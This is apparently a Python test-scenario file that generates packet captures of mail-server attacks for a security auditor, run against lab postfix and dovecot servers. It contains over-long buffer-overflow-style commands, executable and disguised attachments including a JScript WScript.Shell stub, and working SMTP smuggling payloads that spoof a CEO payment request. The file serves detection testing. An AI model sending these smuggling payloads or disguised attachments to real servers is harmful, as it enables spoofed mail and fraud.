"""Signs of attack, for the auditor (issue 27): pcaps/attacks/<name>.pcap.

Over-long command lines (the buffer-overflow attempts of old exploits against
MailEnable and others), executable and disguised attachments, and SMTP
smuggling against a postfix that accepts it and one that does not.  Every
server is the lab's real postfix or dovecot; the client is the scripted one
(lib/client.py), since every byte must be controlled.
"""
import socket

from driver import scenario
import messages

EHLO = "EHLO client.lab.test"


def _hello(s):
    s.smtp_reply()
    s.smtp(EHLO)


def _send(s, rcpt, msg, frm="billing@example.org"):
    s.smtp("MAIL FROM:<%s>" % frm)
    s.smtp("RCPT TO:<%s>" % rcpt)
    s.smtp("DATA")
    return s.smtp_data(msg)


def _replies_until_quiet(s, quiet=1.5):
    """Every reply the server sends until it is quiet for `quiet` seconds
    (how many come is what the scenario finds out)."""
    out = [s.smtp_reply()]
    old = s.sock.gettimeout()
    s.sock.settimeout(quiet)
    try:
        while True:
            out.append(s.smtp_reply())
    except (socket.timeout, TimeoutError):
        pass
    finally:
        s.sock.settimeout(old)
    return out


# ------------------------------------------------------ over-long commands
@scenario("attacks/overlong-commands", "command lines far beyond the RFC limits, as "
          "buffer-overflow exploits send them: SMTP VRFY with 1100 bytes of binary junk "
          "(0x90) and EXPN with 600 'A's to postfix; IMAP FETCH whose sequence set is "
          "1400 'A's to dovecot after LOGIN and SELECT; POP3 USER with 700 'C's; each "
          "server refuses them", seed=True)
def overlong_commands(ctx):
    s = ctx.smtp(25, note="VRFY and EXPN with long junk arguments")
    _hello(s)
    s.send(b"VRFY " + b"\x90" * 1100 + b"\r\n")
    s.smtp_reply()
    s.smtp("EXPN " + "A" * 600)
    s.smtp("QUIT")
    s.close()

    s = ctx.imap(note="FETCH with a 1400-byte sequence set of 'A's")
    s.imap_response()
    s.imap("a1", "LOGIN alice alicepw")
    s.imap("a2", "SELECT INBOX")
    s.imap("a3", "FETCH " + "A" * 1400 + " (BODY[])")
    s.imap("a4", "LOGOUT")
    s.close()

    s = ctx.pop3(note="USER with a 700-byte name")
    s.pop_line()
    s.pop("USER " + "C" * 700)
    s.pop("QUIT")
    s.close()


# ------------------------------------------------------------- attachments
def _attachment_mail(ctx, name, subject, msgid, files, note):
    msg = ctx.message(name, messages.with_attachments(subject, msgid, files))
    s = ctx.smtp(25, note=note)
    _hello(s)
    _send(s, "alice@lab.test", msg)
    s.smtp("QUIT")
    s.close()


@scenario("attacks/executable-attachments", "four messages to postfix, one attachment "
          "each: setup.exe (a tiny PE file) as application/octet-stream; invoice.pdf.exe "
          "(the same PE) declared application/pdf; update.js (JScript) as "
          "application/javascript; photo.jpg whose bytes are a PDF, declared image/jpeg")
def executable_attachments(ctx):
    pe = messages.tiny_pe()
    js = (b"var s = new ActiveXObject('WScript.Shell');\r\n"
          b"s.Run('cmd /c echo lab');\r\n")
    mails = [
        ("msg1", "Your software update", "exe.1@client.lab.test",
         [("setup.exe", "application/octet-stream", pe)], "a .exe attachment"),
        ("msg2", "Invoice 2025-001", "dblext.1@client.lab.test",
         [("invoice.pdf.exe", "application/pdf", pe)], "a double extension, declared PDF"),
        ("msg3", "Shipping details", "js.1@client.lab.test",
         [("update.js", "application/javascript", js)], "a .js attachment"),
        ("msg4", "Holiday photo", "mismatch.1@client.lab.test",
         [("photo.jpg", "image/jpeg", messages.tiny_pdf())], "a PDF declared image/jpeg"),
    ]
    for name, subject, msgid, files, note in mails:
        _attachment_mail(ctx, name, subject, msgid, files, note)
    ctx.lab.wait_delivered("alice", len(mails))


@scenario("attacks/clean-attachments", "two messages whose attachments are what they "
          "say: report.pdf (application/pdf) and logo.png (image/png); no attachment "
          "finding")
def clean_attachments(ctx):
    _attachment_mail(ctx, "msg1", "Quarterly report", "cleanpdf.1@client.lab.test",
                     [("report.pdf", "application/pdf", messages.tiny_pdf())], "a PDF")
    _attachment_mail(ctx, "msg2", "Our logo", "cleanpng.1@client.lab.test",
                     [("logo.png", "image/png", messages.tiny_png())], "a PNG")
    ctx.lab.wait_delivered("alice", 2)


# ---------------------------------------------------------- SMTP smuggling
# The sequences of SEC Consult's research (December 2023): an end of data
# with a bare LF or CR, then a whole second transaction inside the data.
SMUGGLE_SEQS = [
    ("<LF>.<LF>", b"\n.\n"),
    ("<LF>.<CRLF>", b"\n.\r\n"),
    ("<CRLF>.<LF>", b"\r\n.\n"),
    ("<CR>.<CRLF>", b"\r.\r\n"),
]


def _smuggle_payload(tag, seq):
    first = messages.crlf(messages.headers("Mallory <mallory@example.org>", "Alice <alice@lab.test>",
                                           "Meeting notes", "smuggle-%s.1@client.lab.test" % tag) +
                          "\nSee you tomorrow.")
    second = messages.crlf(messages.headers("CEO <ceo@lab.test>", "Alice <alice@lab.test>",
                                            "Urgent transfer", "smuggle-%s.2@client.lab.test" % tag) +
                           "\nPlease pay the invoice today.\n")
    return (first + seq + b"MAIL FROM:<ceo@lab.test>\r\nRCPT TO:<alice@lab.test>\r\nDATA\r\n" +
            second + b".\r\n")


def _smuggling(ctx, host, seqs):
    """One session per sequence: the first message with the smuggled second
    transaction in one write after 354, every reply until the server is
    quiet, then QUIT.  Returns the replies' codes per session."""
    codes = []
    for i, (shown, seq) in enumerate(seqs):
        s = ctx.smtp(25, host=host, note="smuggling with %s" % shown)
        _hello(s)
        s.smtp("MAIL FROM:<mallory@example.org>")
        s.smtp("RCPT TO:<alice@lab.test>")
        s.smtp("DATA")
        s.send(_smuggle_payload(str(i + 1), seq))
        got = [c for c, _ in _replies_until_quiet(s)]
        s.smtp("QUIT")
        s.close()
        s.info["smuggling"] = {"sequence": shown, "reply_codes": got}
        codes.append(got)
    return codes


@scenario("attacks/smtp-smuggling-accepted", "SMTP smuggling against a postfix that "
          "accepts it (127.0.0.61:25, smtpd_forbid_bare_newline = no): four sessions, "
          "each one DATA holding a first message, an end-of-data look-alike (<LF>.<LF>, "
          "<LF>.<CRLF>, <CRLF>.<LF>, <CR>.<CRLF>) and a second transaction; postfix takes "
          "the three bare-LF ones as the end (two messages delivered each) and reads the "
          "bare CR as data", services=("smuggling-open",))
def smuggling_accepted(ctx):
    codes = _smuggling(ctx, "127.0.0.61", SMUGGLE_SEQS)
    ctx.note("reply codes after each DATA's bytes: %s" % codes)
    # 3 accepted sequences deliver 2 messages each, the bare CR one 1
    ctx.lab.wait_delivered("alice", 7)


@scenario("attacks/smtp-smuggling-refused", "the same smuggling against a fixed postfix "
          "(127.0.0.62:25, smtpd_forbid_bare_newline = normalize, no exclusions): only "
          "<CRLF>.<CRLF> ends the data, so each session delivers one message holding the "
          "smuggled text", services=("smuggling-fixed",))
def smuggling_refused(ctx):
    codes = _smuggling(ctx, "127.0.0.62", SMUGGLE_SEQS[:2] + SMUGGLE_SEQS[3:])
    ctx.note("reply codes after each DATA's bytes: %s" % codes)
    ctx.lab.wait_delivered("alice", 3)
